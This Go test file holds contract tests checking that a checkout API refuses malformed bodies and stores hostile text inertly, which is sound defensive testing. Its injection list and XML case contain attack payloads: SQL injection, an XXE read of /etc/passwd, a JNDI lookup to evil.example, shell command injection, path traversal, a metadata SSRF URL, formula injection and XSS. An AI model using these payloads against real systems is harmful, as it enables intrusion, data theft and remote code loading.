@@ -1,0 +1,283 @@
+package contract_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// untouched checks that nothing came of what was refused: no record, no event, no panic, no failure.
+func untouched(t *testing.T, s *suite) {
+	t.Helper()
+	if stored := s.Dossiers(t); len(stored) != 0 {
+		t.Errorf("%d checkouts are on record: %+v", len(stored), stored[0].Checkout)
+	}
+	if sent := s.Receiver.Deliveries(); len(sent) != 0 {
+		t.Errorf("events were sent: %q", names(sent))
+	}
+	calm(t, s)
+}
+
+// calm checks that nothing went wrong inside.
+func calm(t *testing.T, s *suite) {
+	t.Helper()
+	for line := range strings.SplitSeq(s.Log.String(), "\n") {
+		if strings.Contains(line, `"level":"ERROR"`) || strings.Contains(line, "panic") {
+			t.Errorf("logged %s", line)
+		}
+	}
+}
+
+// quoted is a string as JSON.
+func quoted(text string) string {
+	raw, err := json.Marshal(text)
+	if err != nil {
+		panic(err) // strings always marshal
+	}
+	return string(raw)
+}
+
+func TestContract7AHostileBodyIsRefusedAndLeavesNothing(t *testing.T) {
+	good := order(legacyCreate, "ORDER-1")
+	change := func(from, to string) string {
+		if !strings.Contains(good, from) {
+			t.Fatalf("%s is not in the body", from)
+		}
+		return strings.Replace(good, from, to, 1)
+	}
+	const price, plan, name, orderID, provider = `"course_price": 1250.00`, `"number_of_instalments": 3`, `"Hemi"`, `"ORDER-1"`, `"provider": {`
+	deep := func(n int) string {
+		return change(provider, `"x": `+strings.Repeat("[", n)+strings.Repeat("]", n)+`, "provider": {`)
+	}
+	tests := []struct {
+		name, body string
+		fields     []string
+	}{
+		{"nothing", "", nil},
+		{"white space", " \r\n\t", nil},
+		{"a byte order mark", "\ufeff" + good, nil},
+		{"UTF-16", "\xff\xfe{\x00}\x00", nil},
+		{"an array", "[" + good + "]", nil},
+		{"a string", quoted(good), nil},
+		{"null", "null", nil},
+		{"a number", "1e999999", nil},
+		{"two objects", good + good, nil},
+		{"text after the object", good + " x", nil},
+		{"a NUL after the object", good + "\x00", nil},
+		{"an object cut off", good[:len(good)-1], nil},
+		{"a trailing comma", good[:len(good)-1] + ",}", nil},
+		{"a comment", "/* */" + good, nil},
+		{"single quotes", strings.ReplaceAll(good, `"`, `'`), nil},
+		{"a name without quotes", change(`"student"`, `student`), nil},
+		{"form data", "provider_code=TUI&provider_order_id=ORDER-1", nil},
+		{"XML", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`, nil},
+
+		{"a section twice", change(provider, `"provider": {}, "provider": {`), []string{"provider"}},
+		{"a field twice", change(price, price+`, "course_price": 1.00`), []string{"pricing.course_price"}},
+		{"a field twice, once escaped", change(price, price+`, "course_pric\u0065": 1.00`), []string{"pricing.course_price"}},
+		{"the provider twice", change(`"provider_code": "TUI"`, `"provider_code": "TUI", "provider_code": "KOWHAI"`), []string{"provider.provider_code"}},
+		{"a section in another case", change(provider, `"Provider": {"provider_code": "KOWHAI"}, "provider": {`), []string{"provider"}},
+		{"a field in another case", change(price, price+`, "COURSE_PRICE": 1.00`), []string{"pricing.course_price"}},
+		{"a field in another case alone", change(price, `"Course_Price": 1250.00`), []string{"pricing.course_price"}},
+		{"a field that folds to another", change(`"student": {`, "\"\u017ftudent\": {}, \"student\": {"), []string{"student"}},
+
+		{"bad UTF-8 in a value", change(name, "\"\xff\xfe\""), []string{"student.first_name"}},
+		{"bad UTF-8 in a name", change(name, "\"Hemi\", \"\xff\": 1"), []string{"student"}},
+		{"an overlong slash", change(name, "\"\xc0\xaf\""), []string{"student.first_name"}},
+		{"a surrogate in UTF-8", change(name, "\"\xed\xa0\x80\""), []string{"student.first_name"}},
+		{"a lone high surrogate", change(name, `"\ud800"`), []string{"student.first_name"}},
+		{"a lone low surrogate", change(name, `"\udc00x"`), []string{"student.first_name"}},
+		{"U+0000", change(name, `"He\u0000mi"`), []string{"student.first_name"}},
+		{"a raw NUL", change(name, "\"He\x00mi\""), []string{"student.first_name"}},
+		{"U+0000 in the order id", change(orderID, `"ORDER-1\u0000"`), []string{"provider.provider_order_id"}},
+		{"a raw line break", change(name, "\"He\nmi\""), []string{"student.first_name"}},
+		{"an escaped line break", change(name, `"Hemi\r\nX-Admin: 1"`), []string{"student.first_name"}},
+		{"an escape sequence", change(orderID, `"\u001b[2JORDER"`), []string{"provider.provider_order_id"}},
+		{"U+009F", change(name, "\"He\u009fmi\""), []string{"student.first_name"}},
+
+		{"33 arrays deep", deep(32), []string{"x" + strings.Repeat("[0]", 31)}},
+		{"10,000 arrays deep", deep(10_000), []string{"x" + strings.Repeat("[0]", 31)}},
+		{"10,000 objects deep", strings.Repeat(`{"x":`, 10_000), []string{strings.TrimSuffix(strings.Repeat("x.", 32), ".")}},
+
+		{"a string for a section", change(`"student": {`, `"student": "x", "other": {`), []string{"student"}},
+		{"an array for a section", change(`"student": {`, `"student": [], "other": {`), []string{"student"}},
+		{"a number for a string", change(name, "1"), []string{"student.first_name"}},
+		{"true for a string", change(name, "true"), []string{"student.first_name"}},
+		{"an array for a string", change(name, `["Hemi"]`), []string{"student.first_name"}},
+		{"an object for a number", change(price, `"course_price": {}`), []string{"pricing.course_price"}},
+		{"a string for a number", change(price, `"course_price": "1250.00"`), []string{"pricing.course_price"}},
+		{"true for a number", change(price, `"course_price": true`), []string{"pricing.course_price"}},
+		{"half an instalment", change(plan, `"number_of_instalments": 3.5`), []string{"plan.number_of_instalments"}},
+		{"no instalment", change(plan, `"number_of_instalments": 0`), []string{"plan.number_of_instalments"}},
+		{"instalments without end", change(plan, `"number_of_instalments": 1e999999`), []string{"plan.number_of_instalments"}},
+		{"2^64 + 3 instalments", change(plan, `"number_of_instalments": 18446744073709551619`), []string{"plan.number_of_instalments"}},
+		{"a day that is none", change(`"2027-02-01"`, `"2027-02-29"`), []string{"plan.first_payment_date"}},
+		{"a moment for a day", change(`"2027-02-01"`, `"2027-02-01T00:00:00Z"`), []string{"plan.first_payment_date"}},
+		{"a day in other digits", change(`"2027-02-01"`, `"２０２７-02-01"`), []string{"plan.first_payment_date"}},
+		{"two addresses in one", change(`"hemi@students.example.ac.nz"`, `"a@b.nz,c@d.nz"`), []string{"student.email"}},
+		{"an address with a header", change(`"hemi@students.example.ac.nz"`, `"a@b.nz\nBcc: c@d.nz"`), []string{"student.email"}},
+		{"nulls", change(name, "null"), []string{"student.first_name"}},
+		{"many faults at once", strings.NewReplacer(name, "1", price, `"course_price": -1`, `"2027-02-01"`, `""`, orderID, `""`).Replace(good),
+			[]string{"student.first_name", "pricing.course_price", "plan.first_payment_date", "provider.provider_order_id"}},
+	}
+	contract(t, func(t *testing.T, s *suite) {
+		for _, tt := range tests {
+			t.Run(tt.name, func(t *testing.T) {
+				r := s.Post(t, "TUI", "/v1/provider-checkouts", tt.body)
+				refused(t, r, http.StatusBadRequest, "VALIDATION_ERROR", tt.fields...)
+				if len(r.Body) > 8<<10 {
+					t.Errorf("the refusal has %d bytes", len(r.Body))
+				}
+			})
+		}
+		untouched(t, s)
+	})
+}
+
+func TestContract7AHostileConfirmIsRefusedAndConfirmsNothing(t *testing.T) {
+	contract(t, func(t *testing.T, s *suite) {
+		created := s.Create(t, "ORDER-1")
+		s.SetUp(t, created)
+		good := created.ConfirmBody()
+		for _, tt := range []struct{ name, from, to, field string }{
+			{"a declaration twice", `"privacy_consent_accepted":true`, `"privacy_consent_accepted":false,"privacy_consent_accepted":true`,
+				"declarations.privacy_consent_accepted"},
+			{"a declaration in another case", `"privacy_consent_accepted":true`, `"privacy_consent_accepted":true,"Privacy_Consent_Accepted":false`,
+				"declarations.privacy_consent_accepted"},
+			{"a declaration as text", `"information_confirmed":true`, `"information_confirmed":"true"`, "declarations.information_confirmed"},
+			{"a declaration as a number", `"payment_plan_accepted":true`, `"payment_plan_accepted":1`, "declarations.payment_plan_accepted"},
+			{"a deposit of null", `"deposit_confirmed":true`, `"deposit_confirmed":null`, "payment.deposit_confirmed"},
+			{"a deposit in an array", `"deposit_confirmed":true`, `"deposit_confirmed":[true]`, "payment.deposit_confirmed"},
+			{"U+0000 in the token", `"checkout_token":"`, `"checkout_token":"\u0000`, "checkout.checkout_token"},
+			{"a token of 10,000 bytes", `"checkout_token":"`, `"checkout_token":"` + strings.Repeat("x", 10_000), "checkout.checkout_token"},
+			{"a number for an id", `"dda_id":"`, `"dda_id":1,"other":"`, "checkout.dda_id"},
+		} {
+			body := strings.Replace(good, tt.from, tt.to, 1)
+			if body == good {
+				t.Fatalf("%s is not in %s", tt.from, good)
+			}
+			t.Run(tt.name, func(t *testing.T) {
+				refused(t, s.Post(t, "KOWHAI", created.CheckoutPath()+"/confirm", body), http.StatusBadRequest, "VALIDATION_ERROR", tt.field)
+			})
+		}
+		sameList(t, "events", names(s.Receiver.Deliveries()), "checkout.created")
+		if record := s.Dossiers(t)[0]; record.Agreement != nil || record.Checkout.Status != "direct_debit_setup_required" {
+			t.Errorf("on record: %+v", record)
+		}
+		calm(t, s)
+	})
+}
+
+func TestContract2UnknownFieldsAreIgnoredAndBindNothing(t *testing.T) {
+	contract(t, func(t *testing.T, s *suite) {
+		extra := `"status": "confirmed", "success": false, "__proto__": {"a": 1}, "constructor": null,
+			"records": {"contact_id": "mine", "opportunity_id": "mine", "dda_id": "mine"},
+			"checkout": {"checkout_id": "mine", "status": "confirmed"}, "direct_debit": {"setup_complete": true, "token": "mine"},
+			"x": ` + strings.Repeat("[", 31) + strings.Repeat("]", 31) + `, "provider": {"environment": "production", `
+		r := s.Post(t, "TUI", "/v1/provider-checkouts", strings.Replace(order(legacyCreate, "ORDER-1"), `"provider": {`, extra, 1))
+		if r.Status != http.StatusCreated || strings.Contains(r.Body, "mine") ||
+			r.String("checkout.status") != "direct_debit_setup_required" || r.At("direct_debit.setup_complete") != false {
+			t.Errorf("create answers %d %s", r.Status, r.Body)
+		}
+	})
+}
+
+func TestContract2ATextHas1To255CharactersOfAnyAlphabet(t *testing.T) {
+	contract(t, func(t *testing.T, s *suite) {
+		for i, letter := range []string{"x", "ā", "漢", "🌱"} {
+			for _, field := range []string{"provider.provider_order_id", "student.first_name", "student.last_name", "course.course_name"} {
+				id := fmt.Sprintf("ORDER-%d-%s", i, field)
+				full := set(t, order(legacyCreate, id), field, quoted(strings.Repeat(letter, 255)))
+				if r := s.Post(t, "TUI", "/v1/provider-checkouts", full); r.Status != http.StatusCreated {
+					t.Errorf("255 × %s in %s: %d %s", letter, field, r.Status, r.Body)
+				}
+				over := set(t, order(legacyCreate, id+"-over"), field, quoted(strings.Repeat(letter, 256)))
+				refused(t, s.Post(t, "TUI", "/v1/provider-checkouts", over), http.StatusBadRequest, "VALIDATION_ERROR", field)
+			}
+		}
+		for _, empty := range []string{`""`, `" "`, "\"\u3000\u00a0\""} {
+			body := set(t, order(legacyCreate, "EMPTY"), "student.first_name", empty)
+			refused(t, s.Post(t, "TUI", "/v1/provider-checkouts", body), http.StatusBadRequest, "VALIDATION_ERROR", "student.first_name")
+		}
+		calm(t, s)
+	})
+}
+
+// injections are texts that mean something to somebody who does not treat them as text.
+func injections() []string {
+	return []string{`'; DROP TABLE checkouts; --`, `' OR '1'='1`, `" OR ""="`, `1) UNION SELECT * FROM keys --`, `\' OR 1=1 #`,
+		`Robert'); DELETE FROM providers;--`, `O'Connor%' AND Name LIKE '_`, `*)(uid=*))(|(uid=*`, `admin)(&)`, `%s%n%x%d`, `%!(EXTRA)`,
+		`{{.Token}}`, `${jndi:ldap://evil.example/a}`, `#{7*7}`, `<%= 7*7 %>`, `$(reboot)`, "`id`", `| cat /etc/passwd`, `; ls &`,
+		`../../../../etc/passwd`, `..\..\windows`, `file:///etc/passwd`, `http://169.254.169.254/`, `=cmd|' /C calc'!A0`, `+1+1`, `-2+3`,
+		`@SUM(1)`, `<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg onload=x>`, `javascript:alert(1)`, `&lt;b&gt;`,
+		`<!--`, `]]>`, `\u0041\n`, `%0d%0aX-Admin: 1`, `null`, `undefined`, `true`, `NaN`, `0x1F`, `__proto__`, `Ṫ̈ḧ̈ë`, "a\u202eb\u2066c",
+		"\U0001F469\u200d\U0001F4BB", "line\u2028line", "\ufffe\U0010ffff", `ʻŌtautahi — “Ngāi Tahu”`}
+}
+
+func TestContract2AnInjectionIsStoredInertlyAndComesBackUnchanged(t *testing.T) {
+	contract(t, func(t *testing.T, s *suite) {
+		all := injections()
+		for _, text := range all {
+			body := order(legacyCreate, "ORDER")
+			for _, field := range []string{"provider.provider_order_id", "student.first_name", "student.last_name", "course.course_name"} {
+				body = set(t, body, field, quoted(text))
+			}
+			r := s.Post(t, "TUI", "/v1/provider-checkouts", body)
+			if r.Status != http.StatusCreated || r.At("provider.provider_order_id") != text {
+				t.Errorf("%q is answered %d %s", text, r.Status, r.Body)
+				continue
+			}
+			again := s.Post(t, "TUI", "/v1/provider-checkouts", body)
+			if again.Status != http.StatusOK || again.At("idempotency_key") != "TUI:"+text || again.At("checkout.checkout_id") != r.At("checkout.checkout_id") {
+				t.Errorf("%q is replayed %d %s", text, again.Status, again.Body)
+			}
+		}
+		stored, sent := s.Dossiers(t), s.Receiver.Deliveries()
+		if len(stored) != len(all) || len(sent) != len(all) {
+			t.Fatalf("%d checkouts and %d events, want %d", len(stored), len(sent), len(all))
+		}
+		for i, text := range all {
+			c := stored[i].Checkout
+			if c.OrderID != text || c.Student.FirstName != text || c.Student.LastName != text || c.Intent.CourseName != text {
+				t.Errorf("%q is on record as %+v", text, c)
+			}
+			if sent[i].JSON.At("data.provider_order_id") != text {
+				t.Errorf("%q is sent as %s", text, sent[i].Body)
+			}
+		}
+		for line := range strings.SplitSeq(strings.TrimSpace(s.Log.String()), "\n") {
+			if !json.Valid([]byte(line)) || strings.Contains(line, "DROP TABLE") {
+				t.Errorf("logged %s", line)
+			}
+		}
+		calm(t, s)
+	})
+}
+
+func TestContract4AnIdempotencyKeyIs1To255VisibleASCIICharactersOnce(t *testing.T) {
+	contract(t, func(t *testing.T, s *suite) {
+		create := func(headers ...string) response {
+			return s.Post(t, "TUI", "/v1/provider-checkouts", order(legacyCreate, "ORDER-1"), headers...)
+		}
+		for _, key := range []string{"", strings.Repeat("k", 256), "two words", "tab\tkey", "kōwhai", "\xff", "non\u00a0breaking"} {
+			refused(t, create("Idempotency-Key", key), http.StatusBadRequest, "VALIDATION_ERROR", "Idempotency-Key")
+		}
+		refused(t, create("Idempotency-Key", "a", "Idempotency-Key", "b"), http.StatusBadRequest, "VALIDATION_ERROR", "Idempotency-Key")
+		refused(t, create("Idempotency-Key", "a", "idempotency-key", "a"), http.StatusBadRequest, "VALIDATION_ERROR", "Idempotency-Key")
+		untouched(t, s)
+		for i, key := range append(slices.DeleteFunc(injections(), func(text string) bool {
+			return strings.ContainsFunc(text, func(r rune) bool { return r <= ' ' || r > '~' })
+		}), strings.Repeat("k", 255)) {
+			body := order(legacyCreate, fmt.Sprintf("ORDER-%d", i))
+			first := s.Post(t, "TUI", "/v1/provider-checkouts", body, "Idempotency-Key", key)
+			again := s.Post(t, "TUI", "/v1/provider-checkouts", body, "Idempotency-Key", key)
+			if first.Status != http.StatusCreated || again.Status != http.StatusOK || again.At("idempotency_key") != key {
+				t.Errorf("key %q: %d %s, then %d %s", key, first.Status, first.Body, again.Status, again.Body)
+			}
+		}
+		calm(t, s)
+	})
+}
